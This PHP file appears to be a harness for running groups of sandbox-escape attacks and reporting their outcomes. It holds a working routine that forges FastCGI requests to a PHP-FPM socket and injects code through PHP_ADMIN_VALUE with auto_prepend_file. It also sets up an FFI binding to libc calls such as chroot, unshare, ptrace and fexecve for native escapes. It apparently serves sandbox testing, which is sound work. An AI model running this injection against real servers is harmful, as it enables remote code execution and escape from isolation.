<?php
// Runs every attack of a group, each in a directory of its own, and says what came of it.
error_reporting(E_ALL);
ini_set('display_errors', '0');
ini_set('html_errors', '0');
set_time_limit(100);

$asked = json_decode(file_get_contents(PHP_SAPI === 'cli' ? 'php://stdin' : 'php://input'), true);
$foreign = $asked['foreign'];
$sockets = $asked['sockets'];
$masters = $asked['masters'];
$outside = $asked['outside'];
$payloads = __DIR__ . '/payloads';

$start = function (array $words): string {
    $process = @proc_open($words, [1 => ['pipe', 'w'], 2 => ['pipe', 'w']], $pipes);
    if (!is_resource($process)) {
        return '';
    }
    $said = stream_get_contents($pipes[1]);
    proc_close($process);
    return (string) $said;
};

// What the last of some names shows, read by ImageMagick in another process; nothing if it cannot.
$look = fn (array $names): string => $start(['/usr/bin/php', '-n', '-d', 'extension=imagick', "$payloads/picture.php", ...$names]);

$pair = fn (string $name, string $value): string => pack('NN', strlen($name) | 1 << 31, strlen($value) | 1 << 31) . $name . $value;
$record = fn (int $type, string $content): string => pack('CCnnCC', 1, $type, 1, strlen($content), 0, 0) . $content;
$forge = function (string $socket) use ($pair, $record): string {
    $stream = @stream_socket_client("unix://$socket", $number, $words, 5);
    if (!$stream) {
        return "no connection: $words";
    }
    stream_set_timeout($stream, 20);
    $code = "<?php echo 'forged ', posix_geteuid();";
    $parameters = [
        'REQUEST_METHOD' => 'POST', 'CONTENT_LENGTH' => (string) strlen($code),
        'SCRIPT_FILENAME' => str_contains($socket, '/php/') ? '/var/www/html/any.php'
            : '/var/www/' . basename($socket, '.sock') . '/htdocs/config.php',
        'PHP_ADMIN_VALUE' => "allow_url_include = On\nauto_prepend_file = php://input",
    ];
    $said = implode('', array_map($pair, array_keys($parameters), $parameters));
    fwrite($stream, $record(1, pack('nCxxxxx', 1, 0)) . $record(4, $said) . $record(4, '') . $record(5, $code) . $record(5, ''));
    $answer = (string) stream_get_contents($stream);
    return preg_match('/forged \d+/', $answer, $match) ? $match[0] : $answer;
};

if (extension_loaded('FFI') && $asked['native']) {
    $libc = FFI::cdef('
        int fork(void); void _exit(int); int waitpid(int, intptr_t, int); int dup2(int, int); int open(const char *, int, int);
        long read(int, char *, size_t); long write(int, const char *, size_t);
        int chroot(const char *); int chdir(const char *); int fchdir(int); int unshare(int); int dlclose(void *);
        int mount(const char *, const char *, const char *, unsigned long, const char *);
        int mknod(const char *, unsigned, unsigned long); long ptrace(long, int, intptr_t, intptr_t);
        int getsockname(int, char *, int *); char *memmem(size_t, size_t, const char *, size_t);
        void *dlopen(const char *, int); int memfd_create(const char *, unsigned); int fexecve(int, char **, char **);
    ', 'libc.so.6');
    $say = function (string $words) use ($libc): void {
        $libc->write(1, $words, strlen($words));
    };
    $tell = function (FFI $libc, string $path): void {
        $descriptor = $libc->open($path, 0, 0);
        $buffer = $libc->new('char[100]');
        if ($descriptor >= 0 && ($length = $libc->read($descriptor, $buffer, 100)) > 0) {
            $libc->write(1, FFI::string($buffer, $length), $length);
        }
    };
    // What a child writes to its descriptor 1.
    $child = function (callable $attack) use ($libc, &$own): string {
        $pid = $libc->fork();
        if ($pid === 0) {
            $libc->dup2($libc->open("$own/said", 0102, 0644), 1);
            try {
                $attack();
            } finally {
                $libc->_exit(0);
            }
        }
        $libc->waitpid($pid, 0, 0);
        return (string) @file_get_contents("$own/said");
    };
}

$run = function (callable $attack): string {
    try {
        return (string) $attack();
    } catch (Throwable $fault) {
        $GLOBALS['faults'][] = $fault->getMessage() . ' in line ' . $fault->getLine();
        return '';
    }
};
$outcome = [];
$faults = [];
